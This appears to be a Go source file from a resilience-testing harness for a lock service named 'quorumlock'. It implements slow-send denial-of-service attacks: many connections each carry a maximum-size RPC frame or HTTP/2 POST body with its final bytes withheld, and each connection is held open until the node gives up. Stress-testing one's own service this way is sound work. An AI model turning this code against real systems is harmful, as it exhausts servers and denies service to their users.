package attacker

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"time"
)

const (
	// maxFrame is the size limit of a frame, maxBody that of an HTTP request's body.
	maxFrame, maxBody = 1 << 20, 64 << 10
	// missing is the number of bytes that are never sent.
	missing = 16
	// sendTimeout bounds the sending of the other bytes.
	sendTimeout = 10 * time.Second
)

// unfinishedFrames sends frames of the maximum size without their end, on many connections.
func (a *attack) unfinishedFrames(ctx context.Context) error {
	part := make([]byte, maxFrame-missing)
	a.ready.Store(true)
	a.each(ctx, a.plan.Connections, func(ctx context.Context, _ int) error {
		a.pace.wait(ctx)
		f, err := a.rpcConn(ctx, 0)
		if err != nil {
			return err
		}
		defer f.close()
		return a.stop(ctx, f.tcp, f.Conn, append(binary.BigEndian.AppendUint32(nil, maxFrame), part...))
	})
	return nil
}

// unfinishedBodies sends HTTP requests of the maximum size without their end: one on most connections, and on
// some as many as HTTP/2 allows.
func (a *attack) unfinishedBodies(ctx context.Context) error {
	part := make([]byte, maxBody-missing)
	head := fmt.Sprintf("POST /quorumlock.v1.LockService/List HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", maxBody)
	a.ready.Store(true)
	a.each(ctx, a.plan.Connections, func(ctx context.Context, i int) error {
		a.pace.wait(ctx)
		if i%20 == 0 {
			return a.streams(ctx, 1<<20, maxStreams, func(h *http2) error {
				return h.post("/quorumlock.v1.LockService/List", "application/json", part, maxBody)
			}, nil)
		}
		conn, err := a.dial(ctx, "http", a.leader().HTTP, 0)
		if err != nil {
			return err
		}
		defer a.drop(conn)
		return a.stop(ctx, conn, conn, append([]byte(head), part...))
	})
	return nil
}

// stop sends the bytes and then nothing, until the node closes the connection.
func (a *attack) stop(ctx context.Context, tcp *net.TCPConn, conn net.Conn, bytes []byte) error {
	end := context.AfterFunc(ctx, func() { _ = tcp.Close() })
	defer end()
	_ = conn.SetWriteDeadline(time.Now().Add(sendTimeout))
	n, err := conn.Write(bytes)
	a.bytesSent.Add(int64(n))
	if err != nil {
		return err
	}
	a.sent.Add(1)
	got, _ := io.Copy(io.Discard, conn)
	a.bytesRead.Add(got)
	a.closed.Add(1)
	return nil
}
